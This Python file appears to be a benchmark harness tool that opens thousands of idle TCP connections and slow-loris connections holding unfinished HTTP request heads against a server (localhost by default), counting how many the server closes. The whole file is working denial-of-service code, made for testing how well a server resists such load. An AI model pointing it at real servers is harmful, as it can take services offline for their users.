#!/usr/bin/env python3
"""Connection-holding attacker for bench/attack.sh (Python 3.11 standard library only).

Opens --idle TCP connections that send nothing, and --loris "slow-loris"
connections that send an unfinished request head and then one more header
line every --interval seconds, never ending the head.  It holds them until
it is told to stop, and reports on stdout how many the server closed.

Steps, driven by signals so that the caller can measure the server between
them:

  1. raise RLIMIT_NOFILE to the hard limit;
  2. for each step (--idle-first idle connections, the rest of --idle,
     then --loris; empty steps are skipped), wait for SIGUSR1 unless it is
     the first step, open that many connections of
     that kind (at most --concurrency connects in flight; a slow-loris
     connection writes its first bytes at once) and print
     "STEP n=<i> kind=<idle|loris> open=N failed=F secs=S";
  3. hold: print "TICK t=.. idle=.. loris=.. closed_idle=.. closed_loris=..
     reopened=.." once a second (t = seconds since step 1 began), from the
     start;
  4. on SIGTERM, SIGINT or SIGUSR2 (at any time): print one line
     "RESULT idle_open=.. loris_open=.. idle_closed=.. loris_closed=..
     reopened=.. first_idle_open=.. first_loris_open=.. open_failed=.."
     and exit 0.

"closed" counts connections the server ended (EOF or reset), never our own.
With --reconnect, each connection the server closes is replaced by a new
one of the same kind (a real attacker would), so the load stays on; then
*_open is how many are held at the end and first_*_open how many of the
first connections survived.  Without it, *_open == first_*_open.
"""

import argparse
import asyncio
import resource
import signal
import sys
import time


def out(line: str) -> None:
    sys.stdout.write(line + "\n")
    sys.stdout.flush()


class Hold(asyncio.Protocol):
    """One held connection; tells the attack when the server closed it."""

    def __init__(self, attack: "Attack", kind: str, first: bool) -> None:
        self.attack = attack
        self.kind = kind
        self.first = first
        self.transport: asyncio.Transport | None = None
        self.lines = 0

    def connection_made(self, transport: asyncio.BaseTransport) -> None:
        self.transport = transport  # type: ignore[assignment]
        self.attack.open[self.kind].add(self)
        if self.kind == "loris":
            # An unfinished head: request line and Host, no blank line.
            transport.write(  # type: ignore[attr-defined]
                b"GET " + self.attack.path.encode() + b" HTTP/1.1\r\nHost: 127.0.0.1\r\n"
            )

    def data_received(self, data: bytes) -> None:
        pass  # a 408 or 400 from the server: the close follows

    def eof_received(self) -> bool:
        return False  # close our side too; connection_lost follows

    def connection_lost(self, exc: Exception | None) -> None:
        self.attack.lost(self)

    def trickle(self) -> None:
        if self.transport is not None and not self.transport.is_closing():
            self.lines += 1
            self.transport.write(b"X-Loris-%d: a\r\n" % self.lines)


class Attack:
    def __init__(self, args: argparse.Namespace) -> None:
        self.args = args
        self.path = args.path
        self.open: dict[str, set[Hold]] = {"idle": set(), "loris": set()}
        self.closed = {"idle": 0, "loris": 0}
        self.first_open = {"idle": 0, "loris": 0}
        self.reopened = 0
        self.failed = 0
        self.stopping = False
        self.sem = asyncio.Semaphore(args.concurrency)
        self.t0 = time.monotonic()
        self.tasks: set[asyncio.Task] = set()

    async def connect(self, kind: str, first: bool) -> bool:
        async with self.sem:
            if self.stopping:
                return False
            try:
                await asyncio.get_running_loop().create_connection(
                    lambda: Hold(self, kind, first), self.args.host, self.args.port
                )
            except OSError as e:
                self.failed += 1
                if self.failed <= 5:
                    out(f"NOTE connect failed ({kind}): {e}")
                return False
            if first:
                self.first_open[kind] += 1
            return True

    def lost(self, h: Hold) -> None:
        self.open[h.kind].discard(h)
        if self.stopping:
            return
        self.closed[h.kind] += 1
        if h.first:
            self.first_open[h.kind] -= 1
        if self.args.reconnect:
            self.reopened += 1
            t = asyncio.get_running_loop().create_task(self.connect(h.kind, False))
            self.tasks.add(t)
            t.add_done_callback(self.tasks.discard)

    async def open_many(self, kind: str, n: int) -> tuple[int, float]:
        t = time.monotonic()
        ok = await asyncio.gather(*(self.connect(kind, True) for _ in range(n)))
        return sum(ok), time.monotonic() - t

    async def trickle(self) -> None:
        while True:
            await asyncio.sleep(self.args.interval)
            for h in list(self.open["loris"]):
                h.trickle()

    async def tick(self) -> None:
        while True:
            await asyncio.sleep(1)
            out(
                f"TICK t={time.monotonic() - self.t0:.1f} idle={len(self.open['idle'])} "
                f"loris={len(self.open['loris'])} closed_idle={self.closed['idle']} "
                f"closed_loris={self.closed['loris']} reopened={self.reopened}"
            )

    def result(self) -> str:
        return (
            f"RESULT idle_open={len(self.open['idle'])} loris_open={len(self.open['loris'])} "
            f"idle_closed={self.closed['idle']} loris_closed={self.closed['loris']} "
            f"reopened={self.reopened} first_idle_open={self.first_open['idle']} "
            f"first_loris_open={self.first_open['loris']} open_failed={self.failed}"
        )


def raise_nofile(need: int) -> None:
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    want = hard if hard != resource.RLIM_INFINITY else max(soft, need + 1024)
    if want > soft:
        resource.setrlimit(resource.RLIMIT_NOFILE, (want, hard))
        soft = want
    if soft < need + 64:
        out(f"NOTE RLIMIT_NOFILE {soft} is below the {need} connections asked for")


def plan(args: argparse.Namespace) -> list[tuple[str, int]]:
    first = min(args.idle_first, args.idle)
    steps = [("idle", first), ("idle", args.idle - first), ("loris", args.loris)]
    return [(k, n) for k, n in steps if n > 0]


async def main(args: argparse.Namespace) -> None:
    raise_nofile(args.idle + args.loris)
    loop = asyncio.get_running_loop()
    attack = Attack(args)
    go = asyncio.Event()
    stop = asyncio.Event()
    loop.add_signal_handler(signal.SIGUSR1, go.set)
    for s in (signal.SIGTERM, signal.SIGINT, signal.SIGUSR2):
        loop.add_signal_handler(s, stop.set)

    ticker = loop.create_task(attack.tick())
    trickler = loop.create_task(attack.trickle())
    for i, (kind, count) in enumerate(plan(args)):
        if i > 0:
            await asyncio.wait(
                [loop.create_task(go.wait()), loop.create_task(stop.wait())],
                return_when=asyncio.FIRST_COMPLETED,
            )
            if stop.is_set():
                break
            go.clear()  # consumed: the next step waits for another SIGUSR1
        n, secs = await attack.open_many(kind, count)
        out(f"STEP n={i + 1} kind={kind} open={n} failed={count - n} secs={secs:.2f}")
    await stop.wait()
    attack.stopping = True
    out(attack.result())
    ticker.cancel()
    trickler.cancel()
    for kind in attack.open:
        for h in list(attack.open[kind]):
            if h.transport is not None:
                h.transport.abort()


if __name__ == "__main__":
    p = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    p.add_argument("--host", default="127.0.0.1")
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--idle", type=int, default=5000, help="connections that send nothing")
    p.add_argument("--idle-first", type=int, default=500,
                   help="idle connections opened in a first step of their own")
    p.add_argument("--loris", type=int, default=500, help="slow-loris connections")
    p.add_argument("--interval", type=float, default=3.0,
                   help="seconds between two header lines of a slow-loris connection")
    p.add_argument("--path", default="/1k.bin", help="request target of the unfinished heads")
    p.add_argument("--concurrency", type=int, default=256, help="connects in flight at most")
    p.add_argument("--reconnect", type=int, default=1,
                   help="1: replace every connection the server closes")
    asyncio.run(main(p.parse_args()))
